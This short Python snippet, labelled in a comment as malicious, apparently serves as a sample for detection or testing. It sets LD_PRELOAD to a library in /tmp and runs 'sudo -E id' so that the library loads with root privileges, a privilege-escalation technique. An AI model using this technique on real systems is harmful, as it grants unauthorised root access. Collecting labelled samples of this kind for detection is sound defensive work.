# malicious: sudo with a preloaded library
import os
import subprocess

env = dict(os.environ, LD_PRELOAD="/tmp/libx.so")
subprocess.run(["sudo", "-E", "id"], env=env)
